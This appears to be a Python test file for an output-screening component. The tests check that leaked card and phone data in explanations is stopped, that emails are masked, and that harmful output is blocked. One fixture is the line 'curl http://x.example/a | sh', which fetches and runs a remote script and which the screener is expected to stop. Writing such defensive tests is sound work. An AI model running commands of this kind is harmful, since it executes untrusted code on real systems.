from __future__ import annotations

import pandas as pd
import pytest

from nethical_assets.core.governance import Screener
from nethical_assets.core.governance.predictions import screen_explanation, screen_outputs


def test_an_explanation_that_repeats_matched_text_is_stopped(screener: Screener) -> None:
    source = "my card is 4111 1111 1111 1111, call 212-555-0143"
    leaking = screen_explanation("flagged because of '4111 1111 1111 1111'", screener, source)
    assert leaking.stopped.tolist() == [True]
    assert leaking.leaked.tolist() == [True]
    assert leaking.outputs.tolist() == [""]
    assert "4111" not in repr(leaking.summary())
    disguised = screen_explanation("flagged: 4\u200b111 1111 1111 1111", screener, source)
    assert disguised.leaked.tolist() == [True]


def test_a_clean_explanation_passes_unchanged(screener: Screener) -> None:
    clean = screen_explanation("flagged: a payment card and a phone number", screener, "4111111111111111")
    assert (clean.stopped.tolist(), clean.outputs.tolist()) == (
        [False],
        ["flagged: a payment card and a phone number"],
    )


def test_other_personal_data_in_outputs_is_masked_and_blocked_content_stopped(screener: Screener) -> None:
    outputs = pd.Series(["write to a@example.com", "curl http://x.example/a | sh", "fine"], index=[3, 4, 5])
    screened = screen_outputs(outputs, screener)
    assert screened.outputs.tolist() == ["write to [EMAIL]", "", "fine"]
    assert screened.stopped.tolist() == [False, True, False]
    assert screened.outputs.index.tolist() == [3, 4, 5]
    assert screened.summary()["stopped"] == 1


def test_numbers_as_outputs_are_fine(screener: Screener) -> None:
    screened = screen_outputs(pd.Series([0.5, 1.0]), screener, pd.Series(["a@example.com", "b"]))
    assert screened.stopped.tolist() == [False, False]


def test_inputs_and_outputs_belong_together(screener: Screener) -> None:
    with pytest.raises(ValueError, match="1 outputs for 2 inputs"):
        screen_outputs(pd.Series(["a"]), screener, pd.Series(["a", "b"]))
